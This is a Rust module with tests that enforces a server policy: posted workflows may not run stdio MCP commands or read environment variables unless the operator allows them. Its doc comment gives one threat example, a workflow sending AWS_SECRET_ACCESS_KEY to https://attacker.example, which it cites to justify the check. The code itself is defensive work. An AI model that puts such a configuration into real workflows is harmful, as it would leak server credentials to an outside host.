//! What a workflow posted to the server may do beyond calling the network:
//! run commands (stdio MCP servers) and read files (sub-workflows by
//! `file:` or `workflow: <id>`). Neither, unless the operator allowed it.
//!
//! - Commands: a workflow that declares an MCP server with `command:`
//!   (`ir::McpServer::Stdio`), itself or in a sub-workflow embedded in one
//!   of its `type: workflow` nodes, at any depth, is refused by
//!   `POST /workflows` unless `jamjet dev --allow-commands` (any command)
//!   or `--allow-command CMD` (exact match on the `command:` text; the
//!   arguments, environment and working directory are the workflow's) lets
//!   it. The workflows of `--workflows DIR`, registered at start, are the
//!   operator's own files and are not checked.
//! - Files: posted YAML is compiled with [`crate::ir::Includes::Under`]
//!   the `--workflows` directory, or [`crate::ir::Includes::Nowhere`]
//!   without one ([`Policy::includes`]); the compiler enforces it.
//! - The server's environment: a workflow reads it where it names a
//!   variable (a model's `api_key_env`, `${VAR}` in an MCP server's URL,
//!   headers, arguments or environment, in an agent node's headers) and
//!   sends its value where the workflow says. Posted, it may only send a
//!   model provider's default key to that provider's default URL (what
//!   `model: gpt-4o` means); any other variable needs
//!   `jamjet dev --allow-env NAME` (or `--allow-env '*'`). Otherwise a
//!   workflow with `base_url: https://attacker.example` and
//!   `api_key_env: AWS_SECRET_ACCESS_KEY` would mail the server's secrets.
//!
//! [`Policy::commands_refused`] and [`Policy::env_refused`] are pure: the
//! IR in, every refusal out.

use std::collections::BTreeSet;
use std::path::PathBuf;

use crate::ir::{Includes, McpServer, NodeKind, ScorerKind, Workflow, expand_env};
use crate::model::ModelConfig;

/// Which stdio MCP commands posted workflows may declare.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub enum Commands {
    /// None (the default).
    #[default]
    None,
    /// Any (`--allow-commands`).
    Any,
    /// These, matched exactly against `command:` (`--allow-command`).
    Only(BTreeSet<String>),
}

impl Commands {
    fn allows(&self, command: &str) -> bool {
        match self {
            Commands::None => false,
            Commands::Any => true,
            Commands::Only(list) => list.contains(command),
        }
    }
}

/// Which environment variables posted workflows may read (and send).
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub enum Env {
    /// None but a provider's default key, sent to its default URL.
    #[default]
    Defaults,
    /// Any (`--allow-env '*'`).
    Any,
    /// These too (`--allow-env NAME`).
    Also(BTreeSet<String>),
}

impl Env {
    fn allows(&self, var: &str) -> bool {
        match self {
            Env::Defaults => false,
            Env::Any => true,
            Env::Also(list) => list.contains(var),
        }
    }
}

/// The operator's rules for posted workflows.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Policy {
    pub commands: Commands,
    pub env: Env,
    /// `--workflows DIR`, canonical: the only directory posted YAML may
    /// include sub-workflow files from.
    pub workflows_dir: Option<PathBuf>,
}

/// One stdio MCP server the policy does not allow.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Refused {
    /// The `type: workflow` nodes leading to the workflow that declares it
    /// (empty: the posted workflow itself), outermost first.
    pub path: Vec<String>,
    /// The workflow that declares it.
    pub workflow: String,
    pub server: String,
    pub command: String,
}

impl std::fmt::Display for Refused {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "MCP server `{}` of workflow `{}`", self.server, self.workflow)?;
        if !self.path.is_empty() {
            let nodes: Vec<String> = self.path.iter().map(|n| format!("`{n}`")).collect();
            write!(f, " (the sub-workflow of node {})", nodes.join(" → "))?;
        }
        write!(f, " runs the command `{}`", self.command)
    }
}

/// One environment variable a posted workflow names that the policy does
/// not let it read.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct EnvRefused {
    /// The `type: workflow` nodes leading to the workflow that names it.
    pub path: Vec<String>,
    pub workflow: String,
    /// Where: `node `ask` (model `m` at URL)`, `MCP server `x``.
    pub place: String,
    pub var: String,
}

impl std::fmt::Display for EnvRefused {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "{} of workflow `{}`", self.place, self.workflow)?;
        if !self.path.is_empty() {
            let nodes: Vec<String> = self.path.iter().map(|n| format!("`{n}`")).collect();
            write!(f, " (the sub-workflow of node {})", nodes.join(" → "))?;
        }
        write!(f, " reads the environment variable {}", self.var)
    }
}

/// The variables `${VAR}` references in `text` name.
fn env_refs(text: &str) -> Vec<String> {
    let names = std::cell::RefCell::new(Vec::new());
    let _ = expand_env(text, |name| {
        names.borrow_mut().push(name.to_string());
        Some(String::new())
    });
    names.into_inner()
}

/// A model's key variable, unless it is its provider's default key going
/// to its provider's default URL (which any posted workflow may use).
fn model_key(config: &ModelConfig) -> Option<&str> {
    let var = config.api_key_env.as_deref()?;
    let defaults = var == config.provider.default_key_env() && config.base_url == config.provider.default_base_url();
    (!defaults).then_some(var)
}

impl Policy {
    /// Every environment variable `wf` (or a sub-workflow in it) would read
    /// that the policy does not allow; empty when it may be registered.
    pub fn env_refused(&self, wf: &Workflow) -> Vec<EnvRefused> {
        let mut out = Vec::new();
        let mut todo: Vec<(Vec<String>, &Workflow)> = vec![(Vec::new(), wf)];
        while let Some((path, wf)) = todo.pop() {
            let mut named: Vec<(String, String)> = Vec::new();
            for (name, server) in &wf.mcp_servers {
                let texts: Vec<&String> = match server {
                    McpServer::Http { url, headers } => std::iter::once(url).chain(headers.values()).collect(),
                    McpServer::Stdio { command, args, env, cwd } => {
                        std::iter::once(command).chain(args).chain(env.values()).chain(cwd).collect()
                    }
                };
                for var in texts.into_iter().flat_map(|t| env_refs(t)) {
                    named.push((format!("MCP server `{name}`"), var));
                }
            }
            for (id, node) in &wf.nodes {
                match &node.kind {
                    NodeKind::Model(m) => {
                        if let Some(var) = model_key(&m.config) {
                            let place = format!("node `{id}` (model `{}` at {})", m.config.model, m.config.base_url);
                            named.push((place, var.to_string()));
                        }
                    }
                    NodeKind::Eval(e) => {
                        for s in &e.scorers {
                            if let ScorerKind::Rubric { config, .. } = &s.kind
                                && let Some(var) = model_key(config)
                            {
                                let place = format!("node `{id}` (judge `{}` at {})", config.model, config.base_url);
                                named.push((place, var.to_string()));
                            }
                        }
                    }
                    NodeKind::Agent(a) => {
                        for var in a.headers.values().flat_map(|h| env_refs(h)) {
                            named.push((format!("node `{id}` (agent {})", a.agent), var));
                        }
                    }
                    NodeKind::Workflow(sub) => {
                        let mut inner = path.clone();
                        inner.push(id.clone());
                        todo.push((inner, &sub.workflow));
                    }
                    _ => {}
                }
            }
            for (place, var) in named {
                if !self.env.allows(&var) {
                    out.push(EnvRefused { path: path.clone(), workflow: wf.id.clone(), place, var });
                }
            }
        }
        out
    }

    /// The files posted YAML may include.
    pub fn includes(&self) -> Includes {
        match &self.workflows_dir {
            Some(dir) => Includes::Under(dir.clone()),
            None => Includes::Nowhere,
        }
    }

    /// Every stdio MCP server `wf` (or a sub-workflow in it) declares that
    /// the policy does not allow; empty when it may be registered.
    pub fn commands_refused(&self, wf: &Workflow) -> Vec<Refused> {
        let mut out = Vec::new();
        // A stack, not recursion: nesting depth is the poster's to choose.
        let mut todo: Vec<(Vec<String>, &Workflow)> = vec![(Vec::new(), wf)];
        while let Some((path, wf)) = todo.pop() {
            for (name, server) in &wf.mcp_servers {
                if let McpServer::Stdio { command, .. } = server
                    && !self.commands.allows(command)
                {
                    out.push(Refused {
                        path: path.clone(),
                        workflow: wf.id.clone(),
                        server: name.clone(),
                        command: command.clone(),
                    });
                }
            }
            for (id, node) in wf.nodes.iter().rev() {
                if let NodeKind::Workflow(sub) = &node.kind {
                    let mut inner = path.clone();
                    inner.push(id.clone());
                    todo.push((inner, &sub.workflow));
                }
            }
        }
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const CHILD: &str = "
id: child
state_schema: { x: int }
mcp:
  servers:
    shell: { command: /bin/sh, args: [-c, 'true'] }
    web: { url: 'http://127.0.0.1:1/mcp' }
nodes:
  call: { type: tool, server: shell, tool: t, arguments: {}, output_key: x }
";

    fn parent() -> Workflow {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(dir.path().join("child.yaml"), CHILD).unwrap();
        let parent = "
id: parent
state_schema: { x: int, out: dict }
mcp:
  servers:
    npx: { command: npx, args: [some-server] }
nodes:
  outer: { type: workflow, file: child.yaml, output_key: out }
";
        let path = dir.path().join("parent.yaml");
        std::fs::write(&path, parent).unwrap();
        crate::ir::compile_file(&path).unwrap()
    }

    #[test]
    fn stdio_servers_are_refused_at_any_depth_unless_allowed() {
        let wf = parent();
        let none = Policy::default().commands_refused(&wf);
        let shown: Vec<String> = none.iter().map(ToString::to_string).collect();
        assert_eq!(
            shown,
            [
                "MCP server `npx` of workflow `parent` runs the command `npx`",
                "MCP server `shell` of workflow `child` (the sub-workflow of node `outer`) runs the command `/bin/sh`",
            ]
        );
        let any = Policy { commands: Commands::Any, ..Policy::default() };
        assert!(any.commands_refused(&wf).is_empty());
        let some = Policy { commands: Commands::Only(["npx".to_string()].into()), ..Policy::default() };
        let left = some.commands_refused(&wf);
        assert_eq!(left.len(), 1);
        assert_eq!((left[0].server.as_str(), left[0].path.as_slice()), ("shell", ["outer".to_string()].as_slice()));
        let sh = Policy { commands: Commands::Only(["sh".to_string()].into()), ..Policy::default() };
        assert_eq!(sh.commands_refused(&wf).len(), 2, "an allowlist matches the command exactly");
    }

    #[test]
    fn includes_follow_the_workflows_dir() {
        assert_eq!(Policy::default().includes(), Includes::Nowhere);
        let p = Policy { workflows_dir: Some(PathBuf::from("/srv/wf")), ..Policy::default() };
        assert_eq!(p.includes(), Includes::Under(PathBuf::from("/srv/wf")));
    }
}
